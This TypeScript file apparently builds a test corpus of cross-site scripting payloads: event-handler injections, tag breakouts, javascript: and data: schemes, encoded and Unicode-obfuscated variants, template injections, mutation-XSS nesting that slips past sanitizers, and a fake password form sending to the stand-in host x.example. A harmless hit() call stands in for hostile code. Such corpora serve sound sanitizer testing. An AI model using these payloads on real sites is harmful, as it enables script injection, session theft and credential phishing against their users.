/** What hostile text tries. `hit()` is what would run; nothing answers at `x.example`. */

const EVENTS: readonly (readonly [tag: string, ...events: string[]])[] = [
  ['img src=x', 'error', 'click'],
  ['img src', 'error'],
  ['image src=x', 'error'],
  ['svg', 'load', 'click', 'begin', 'focusin'],
  ['body', 'load', 'pageshow', 'resize', 'hashchange', 'focus', 'scroll', 'message'],
  ['video src=x', 'error', 'loadstart'],
  ['audio src=x', 'error', 'loadstart'],
  ['video autoplay', 'play'],
  ['input autofocus', 'focus', 'blur'],
  ['textarea autofocus', 'focus'],
  ['select autofocus', 'focus'],
  ['button autofocus', 'focus', 'click'],
  ['a tabindex autofocus', 'focus'],
  ['p', 'click', 'mouseover', 'pointerover', 'copy', 'animationend'],
  ['b', 'mouseenter', 'wheel', 'auxclick'],
  ['a href', 'click', 'focus', 'dragstart'],
  ['details open', 'toggle'],
  ['marquee', 'start', 'finish', 'bounce'],
  ['object data=x', 'error', 'load'],
  ['embed src=x', 'load', 'error'],
  ['iframe', 'load'],
  ['style', 'load', 'error'],
  ['link rel=x', 'load', 'error'],
  ['form', 'submit', 'reset', 'input'],
  ['li', 'click', 'touchstart'],
  ['div popover', 'beforetoggle', 'toggle'],
  ['dialog open', 'close', 'cancel'],
  ['source', 'error'],
  ['track', 'error'],
  ['frameset', 'load'],
  ['math', 'click', 'load'],
]
const handlers = EVENTS.flatMap(([tag, ...events]) => events.map((event) => `<${tag} on${event}=hit()>`))

const CORES = ['<svg onload=hit()>', '<img src=x onerror=hit()>']
const OUT_OF = ['">', "'>", '-->', '</p>', '</title>', '</style>', '</script>', '</textarea>', ']]>', '*/', '</b></i>', '<!--', '<p title="', '<b><i></b>', '<table>', '<ul><li>', '<<', '&gt;']
const breakouts = OUT_OF.flatMap((out) => CORES.map((core) => `${out}${core}`)).filter((text) => text.length <= 40)

const SCHEMES = ['javascript:hit()', 'JaVaScRiPt:hit()', 'java&Tab;script:hit()', 'javascript&colon;hit()', '&#106;avascript:hit()', 'vbscript:hit()', 'data:text/html,<svg onload=hit()>', '//x.example']
const SINKS = ['<a href=', '<iframe src=', '<form action=', '<object data=', '<embed src=', '<base href=', '<link href=', '<img src=']
const addresses = SINKS.flatMap((sink) => SCHEMES.map((scheme) => `${sink}${scheme}>`)).filter((text) => text.length <= 40)

const SCRIPTS = [
  '<script>hit()</script>', '<SCRIPT>hit()</SCRIPT>', '<script>hit()//', '<<script>hit()//<</script>', '<script/x>hit()</script>', '<scr<script>ipt>hit()</script>', '<script src=//x.example>',
  '<script type=module>hit()</script>', '</script><script>hit()</script>', '<svg><script>hit()</script>', '<math><script>hit()</script>', '<template><script>hit()</script>',
  '<noscript><script>hit()</script>', '<script>hit()</script >', '<script\u00a0>hit()</script>', '<title><script>hit()</script>',
]
const WRITTEN_OTHERWISE = [
  '<IMG SRC=x ONERROR=hit()>', '<ImG sRc=x OnErRoR=hit()>', '<img/src=x/onerror=hit()>', '<svg/onload=hit()>', '<img src=x onerror="hit()">', "<img src=x onerror='hit()'>", '<img src=x onerror=`hit()`>',
  '<img src=x onerror = hit()>', '<img src=x onerror=hit()', '<img src="x"onerror=hit()>', '<svg onload=hit``>', '<svg onload=top.hit()>', "<svg onload=self['hit']()>", '<x onclick=hit()>', '<img src=x onerror=hit&#40;&#41;>',
  '&lt;svg onload=hit()&gt;', '&#60;svg onload=hit()&#62;', '&#x3c;svg onload=hit()&#x3e;', '&amp;lt;svg onload=hit()&amp;gt;', '\\u003csvg onload=hit()\\u003e', '\\x3csvg onload=hit()\\x3e', '%3Csvg onload=hit()%3E',
  '＜svg onload=hit()＞', '<ſcript>hit()</ſcript>', '<\u200bscript>hit()</script>', '\u202e<svg onload=hit()>', '\u2066<svg onload=hit()>\u2069', '<svg\u200b onload=hit()>', '‹script›hit()‹/script›',
]
const ELSEWHERE = [
  '{{hit()}}', '${hit()}', '#{hit()}', '<%= hit() %>', '[[hit()]]', '{%hit()%}', '@{hit()}', '{{[].pop.constructor`hit()``}}', '"};hit();//', "';hit();//", '");hit();//', '`;hit();//', 'javascript:hit()',
  'data:text/html,<svg onload=hit()>', '__proto__', 'constructor', '<p style=background:url(//x.example)>', '<style>*{color:red}</style>', '<style>@import"//x.example"</style>', '<p style=position:fixed;inset:0>',
  '<meta http-equiv=refresh content=0>', '<input name=password>', '<plaintext>', '<xmp><svg onload=hit()>', '<!doctype html>', '<![CDATA[<svg onload=hit()>]]>', '<?xml?><svg onload=hit()>',
]

/** Each fits into the shortest text there is. */
export const SHORT: readonly string[] = [...new Set([...handlers, ...breakouts, ...addresses, ...SCRIPTS, ...WRITTEN_OTHERWISE, ...ELSEWHERE])].filter((text) => text.length <= 40)

/** Those that need more room: markup that a browser changes while it reads it, and nesting that it mends. */
export const LONG: readonly string[] = [
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=hit()>"></textarea>',
  '<title><a href="</title><img src=x onerror=hit()>">',
  '<template><style></template><img src=x onerror=hit()></style>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>parent.hit()</script>"></object>',
  '<a href="javascript:hit()" onclick="hit()" style="position:fixed;inset:0">x</a>',
  '<svg><a xlink:href="javascript:hit()"><text y="20">x</text></a></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:hit() /><a id=x><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()></svg>#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<svg onload=parent.hit()>"></iframe></foreignObject></svg>',
  '<p title="a>b" onclick="hit()">one<p/onclick=hit()>two<ul><li onclick=hit()>three',
  '<strong><em><p onmouseover=hit()>crossed</strong></p></em><img src=x onerror=hit()>',
  '<div style="background:url(javascript:hit());behavior:url(//x.example);width:expression(hit())">x</div>',
  '<link rel=stylesheet href=//x.example/x.css><meta http-equiv=refresh content="0;url=//x.example">',
  '<form action="//x.example"><input name=password autofocus onfocus=hit()><button formaction=javascript:hit()>Log in</button></form>',
  '<video><source onerror="hit()"></video><audio src=x onerror="hit()"></audio><details open ontoggle="hit()">x</details>',
  '<img src=x onerror="&#104;&#105;&#116;&#40;&#41;"><img src=x onerror="\\u0068it()">',
]

export const PAYLOADS: readonly string[] = [...SHORT, ...LONG]
